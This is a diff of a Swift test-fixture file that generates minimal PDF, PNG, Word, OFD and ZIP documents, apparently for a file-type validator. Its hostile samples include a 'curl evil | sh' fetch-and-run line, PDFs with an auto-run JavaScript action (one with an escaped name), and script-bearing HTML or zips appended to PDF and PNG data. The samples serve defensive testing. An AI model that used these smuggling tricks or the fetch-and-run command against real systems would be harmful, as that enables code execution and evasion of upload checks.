@@ -7,8 +7,10 @@ enum SampleDocuments {
 
     /// A one-page PDF with its cross-reference table and trailer.
     static func pdf(_ note: String = "郑州") -> Data {
-        let objects = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-                       "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"]
+        let objects = [
+            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
+        ]
         let stream = "BT /F1 12 Tf 20 100 Td (\(note.unicodeScalars.filter(\.isASCII).map(String.init).joined())) Tj ET"
         var out = Data("%PDF-1.4\n%\u{E2}\u{E3}\n".utf8)
         var offsets: [Int] = []
@@ -27,7 +29,7 @@ enum SampleDocuments {
     static func png() -> Data {
         var out = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
         out.append(chunk("IHDR", be32(1) + be32(1) + [8, 2, 0, 0, 0]))
-        let scanline: [UInt8] = [0, 0xC8, 0x10, 0x10]   // filter 0, one red pixel
+        let scanline: [UInt8] = [0, 0xC8, 0x10, 0x10]  // filter 0, one red pixel
         var zlib: [UInt8] = [0x78, 0x01, 0x01, UInt8(scanline.count), 0, ~UInt8(scanline.count), 0xFF]
         zlib += scanline + be32(adler32(scanline))
         out.append(chunk("IDAT", zlib))
@@ -48,16 +50,33 @@ enum SampleDocuments {
 
     /// A Word document: [Content_Types].xml, the package relationships and word/document.xml.
     static func docx(extra: [(String, String)] = []) -> Data {
-        zip([("[Content_Types].xml", #"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#),
-             ("_rels/.rels", #"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#),
-             ("word/document.xml", #"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>郑州市政务信息化项目</w:t></w:r></w:p></w:body></w:document>"#)]
-            + extra)
+        zip(
+            [
+                (
+                    "[Content_Types].xml",
+                    #"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#
+                ),
+                (
+                    "_rels/.rels",
+                    #"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#
+                ),
+                (
+                    "word/document.xml",
+                    #"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>郑州市政务信息化项目</w:t></w:r></w:p></w:body></w:document>"#
+                ),
+            ]
+                + extra)
     }
 
     /// An OFD (GB/T 33190) package: OFD.xml and one document.
     static func ofd() -> Data {
-        zip([("OFD.xml", #"<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#),
-             ("Doc_0/Document.xml", #"<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>"#)])
+        zip([
+            (
+                "OFD.xml",
+                #"<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#
+            ),
+            ("Doc_0/Document.xml", #"<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>"#),
+        ])
     }
 
     static let chineseText = Data(String(repeating: "郑州市政务信息化项目建设管理暂行办法。第一条 为规范政务信息化项目建设管理,", count: 300).utf8)
@@ -77,10 +96,21 @@ enum SampleDocuments {
             ("shell script after spaces", Data("\n  #!/usr/bin/env bash\ncurl evil | sh\n".utf8)),
             ("PDF then HTML", Data("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n".utf8)),
             ("PDF without end", Data("%PDF-1.4 nothing else".utf8)),
-            ("PDF with JavaScript", Data(String(decoding: pdf(), as: UTF8.self)
-                .replacingOccurrences(of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>").utf8)),
-            ("PDF with escaped JavaScript name", Data(String(decoding: pdf(), as: UTF8.self)
-                .replacingOccurrences(of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /Java#53cript /J#53 (x) >>").utf8)),
+            (
+                "PDF with JavaScript",
+                Data(
+                    String(decoding: pdf(), as: UTF8.self)
+                        .replacingOccurrences(
+                            of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
+                        ).utf8)
+            ),
+            (
+                "PDF with escaped JavaScript name",
+                Data(
+                    String(decoding: pdf(), as: UTF8.self)
+                        .replacingOccurrences(of: "/Type /Catalog", with: "/Type /Catalog /OpenAction << /S /Java#53cript /J#53 (x) >>")
+                        .utf8)
+            ),
             ("PDF then zip", pdf() + zip([("a.html", "<script>alert(1)</script>")])),
             ("PNG then HTML", png() + Data("<html><script>alert(1)</script></html>".utf8)),
             ("PNG then zip", png() + zip([("a.html", "<script>alert(1)</script>")])),
@@ -123,17 +153,20 @@ enum SampleDocuments {
             let body = Array(text.utf8), nameBytes = Array(name.utf8)
             let crc = crc32(body)
             let offset = UInt32(local.count)
-            local.append(contentsOf: le32(0x0403_4B50) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
-                         + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count)) + le16(0))
+            local.append(
+                contentsOf: le32(0x0403_4B50) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
+                    + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count)) + le16(0))
             local.append(contentsOf: nameBytes + body)
-            central.append(contentsOf: le32(0x0201_4B50) + le16(20) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
-                           + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count))
-                           + le16(0) + le16(0) + le16(0) + le16(0) + le32(0) + le32(offset))
+            central.append(
+                contentsOf: le32(0x0201_4B50) + le16(20) + le16(20) + le16(0x0800) + le16(0) + le16(0) + le16(0x21)
+                    + le32(crc) + le32(UInt32(body.count)) + le32(UInt32(body.count)) + le16(UInt16(nameBytes.count))
+                    + le16(0) + le16(0) + le16(0) + le16(0) + le32(0) + le32(offset))
             central.append(contentsOf: nameBytes)
         }
         var out = local + central
-        out.append(contentsOf: le32(0x0605_4B50) + le16(0) + le16(0) + le16(UInt16(entries.count)) + le16(UInt16(entries.count))
-                   + le32(UInt32(central.count)) + le32(UInt32(local.count)) + le16(0))
+        out.append(
+            contentsOf: le32(0x0605_4B50) + le16(0) + le16(0) + le16(UInt16(entries.count)) + le16(UInt16(entries.count))
+                + le32(UInt32(central.count)) + le32(UInt32(local.count)) + le16(0))
         return out
     }
 
